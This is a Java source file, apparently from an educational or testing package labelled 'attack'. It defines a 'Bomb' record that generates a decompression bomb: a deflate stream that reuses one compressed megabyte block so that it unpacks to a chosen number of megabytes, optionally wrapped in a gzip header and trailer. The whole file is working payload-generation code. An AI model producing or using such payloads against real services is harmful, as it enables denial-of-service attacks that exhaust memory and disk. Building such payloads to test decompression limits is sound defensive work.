package education.warehouse.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * A deflated stream that unpacks to much: a start, many megabytes of one byte, an end.
 *
 * @param packed the stream
 * @param size its length, unpacked
 * @param checksum CRC of what it unpacks to
 */
record Bomb(byte[] packed, long size, long checksum) {

    private static final int MEGABYTE = 1 << 20;

    /** A megabyte that follows one of the same byte is always packed alike, so that it is packed once and written often. */
    static Bomb of(byte[] start, byte filling, long megabytes, byte[] end) throws IOException {
        byte[] megabyte = new byte[MEGABYTE];
        Arrays.fill(megabyte, filling);
        CRC32 checksum = new CRC32();
        checksum.update(start);
        Deflater deflater = new Deflater(9, true);
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        packed.write(flushed(deflater, start));
        packed.write(flushed(deflater, megabyte));
        byte[] repeated = flushed(deflater, megabyte);
        for (long i = 0; i < megabytes; i++) {
            checksum.update(megabyte);
            if (i > 0) {
                packed.write(repeated);
            }
        }
        checksum.update(end);
        deflater.setInput(end);
        deflater.finish();
        packed.write(drained(deflater, Deflater.NO_FLUSH));
        deflater.end();
        return new Bomb(packed.toByteArray(), start.length + megabytes * MEGABYTE + end.length, checksum.getValue());
    }

    /** The same as gzip. */
    byte[] gzipped() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.write(new byte[] {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 3});
        bytes.write(packed);
        for (long value : new long[] {checksum, size}) {
            for (int i = 0; i < 4; i++) {
                bytes.write((int) (value >>> 8 * i) & 0xFF);
            }
        }
        return bytes.toByteArray();
    }

    private static byte[] flushed(Deflater deflater, byte[] content) {
        deflater.setInput(content);
        return drained(deflater, Deflater.FULL_FLUSH);
    }

    private static byte[] drained(Deflater deflater, int flush) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        byte[] buffer = new byte[1 << 16];
        int written = deflater.deflate(buffer, 0, buffer.length, flush);
        while (written > 0) {
            packed.write(buffer, 0, written);
            written = deflater.deflate(buffer, 0, buffer.length, flush);
        }
        return packed.toByteArray();
    }
}
